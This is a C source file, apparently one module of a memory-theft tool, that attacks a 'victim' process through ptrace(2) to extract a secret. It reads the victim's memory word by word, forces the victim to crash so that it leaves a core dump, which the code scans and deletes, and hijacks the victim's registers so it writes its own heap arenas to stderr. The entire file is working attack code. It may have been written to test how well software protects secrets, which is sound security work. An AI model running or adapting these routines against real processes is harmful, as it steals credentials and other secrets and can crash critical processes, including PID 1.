/*
 * thief_trace.c - attacks with ptrace(2): reading word by word, a crash that
 * shall leave a core dump, and making the victim hand out its secret itself.
 */
#include "thief.h"

#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define STEP_MS 5
#define STOP_STEPS 400   /* 2 s */
#define SYSCALL_BYTES 2
#define SYSCALL_CODE 0x050f
#define CRASH_STEPS 2000 /* 10 s */

static void pause_a_little(void)
{
	(void)nanosleep(&(struct timespec){ .tv_nsec = STEP_MS * 1000000L }, NULL);
}

int stop_victim(pid_t pid)
{
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return -errno;
	for (int i = 0; i < STOP_STEPS; i++) {
		int status;
		if (waitpid(pid, &status, WNOHANG | __WALL) == pid)
			return WIFSTOPPED(status) ? 0 : -ESRCH;
		pause_a_little();
	}
	return -ETIMEDOUT;
}

ssize_t read_peek(const struct search *search, int fd, uint64_t at, void *bytes, size_t length)
{
	(void)fd;
	for (size_t done = 0; done < length; done += sizeof(long)) {
		/* The system call itself, because glibc mixes value and error. */
		char *into = (char *)bytes + done;
		if (syscall(SYS_ptrace, PTRACE_PEEKDATA, search->pid, at + done, into) < 0)
			return done > 0 ? (ssize_t)done : -errno;
	}
	return (ssize_t)length;
}

void attack_peek(struct search *search)
{
	int stopped = stop_victim(search->pid);
	if (stopped < 0)
		return fail(search, "PTRACE_ATTACH", -stopped);
	look_in_memory(search, read_peek, -1);
	(void)ptrace(PTRACE_DETACH, search->pid, NULL, NULL);
}

#ifdef __x86_64__

/* Puts the victim onto an address where nothing lies: a real fault, which ends PID 1 too. */
static int crash(pid_t pid)
{
	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
	if (prlimit(pid, RLIMIT_CORE, &unlimited, NULL) < 0)
		return -errno;
	int stopped = stop_victim(pid);
	if (stopped < 0)
		return stopped;
	struct user_regs_struct registers;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &registers) < 0)
		return -errno;
	registers.rip = 16;
	registers.orig_rax = (unsigned long long)-1;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &registers) < 0)
		return -errno;
	return ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0 ? -errno : 0;
}

static int is_alive(pid_t pid)
{
	char path[64], line[256] = "";
	(void)snprintf(path, sizeof path, "/proc/%d/stat", pid);
	FILE *stat = fopen(path, "re");
	if (stat == NULL)
		return 0;
	(void)fgets(line, sizeof line, stat);
	(void)fclose(stat);
	const char *state = strrchr(line, ')');
	return state != NULL && state[1] != 0 && state[2] != 'Z' && state[2] != 'X';
}

static void look_in_cores(struct search *search, const char *folder)
{
	DIR *entries = opendir(folder);
	if (entries == NULL)
		return fail(search, "open the working directory", errno);
	int cores = 0;
	for (struct dirent *entry; (entry = readdir(entries)) != NULL;) {
		if (strncmp(entry->d_name, "core", 4) != 0)
			continue;
		char path[1024];
		(void)snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		look_in_file(search, path);
		(void)unlink(path);
		cores++;
	}
	(void)closedir(entries);
	if (cores == 0)
		(void)snprintf(search->loot.error, ERROR_BYTES, "no core dump was written");
}

void attack_core(struct search *search)
{
	char link[64], folder[512];
	(void)snprintf(link, sizeof link, "/proc/%d/cwd", search->pid);
	ssize_t length = readlink(link, folder, sizeof folder - 1);
	if (length < 0)
		return fail(search, "readlink /proc/PID/cwd", errno);
	folder[length] = 0;
	int crashed = crash(search->pid);
	if (crashed < 0)
		return fail(search, "crash", -crashed);
	for (int i = 0; i < CRASH_STEPS && is_alive(search->pid); i++)
		pause_a_little();
	look_in_cores(search, folder);
}

/* Makes the stopped victim call write(2, arena): it runs in the process, so no page is hidden from it. */
static void write_range(struct range range, void *context)
{
	struct search *search = context;
	struct user_regs_struct saved, call;
	if (!range.is_arena || ptrace(PTRACE_GETREGS, search->pid, NULL, &saved) < 0)
		return;
	call = saved;
	call.rax = SYS_write;
	call.orig_rax = (unsigned long long)-1;
	call.rdi = STDERR_FILENO;
	call.rsi = range.start;
	call.rdx = range.end - range.start;
	call.rip -= SYSCALL_BYTES;
	int status;
	if (ptrace(PTRACE_SETREGS, search->pid, NULL, &call) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, search->pid, NULL, NULL) < 0 ||
	    waitpid(search->pid, &status, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, search->pid, NULL, &call) < 0)
		fail(search, "inject", errno);
	else if ((long long)call.rax > 0)
		search->loot.bytes += call.rax;
	else
		fail(search, "write in the victim", (int)-(long long)call.rax);
	(void)ptrace(PTRACE_SETREGS, search->pid, NULL, &saved);
}

/* Whether the stopped victim waits in a system call, so that its instruction can be used again. */
static int waits_in_syscall(pid_t pid)
{
	struct user_regs_struct registers;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &registers) < 0)
		return 0;
	long code = ptrace(PTRACE_PEEKTEXT, pid, (void *)(registers.rip - SYSCALL_BYTES), NULL);
	return (code & 0xffff) == SYSCALL_CODE;
}

void attack_inject(struct search *search)
{
	for (int i = 0; i < STOP_STEPS; i++) {
		int stopped = stop_victim(search->pid);
		if (stopped < 0)
			return fail(search, "PTRACE_ATTACH", -stopped);
		int ready = waits_in_syscall(search->pid);
		int result = ready ? each_range(search->pid, write_range, search) : 0;
		if (result < 0)
			fail(search, "open /proc/PID/maps", -result);
		(void)ptrace(PTRACE_DETACH, search->pid, NULL, NULL);
		if (ready)
			return;
		pause_a_little();
	}
	fail(search, "wait for a system call", ETIMEDOUT);
}

#else

void attack_core(struct search *search)
{
	fail(search, "set registers on this processor", ENOSYS);
}

void attack_inject(struct search *search)
{
	fail(search, "set registers on this processor", ENOSYS);
}

#endif
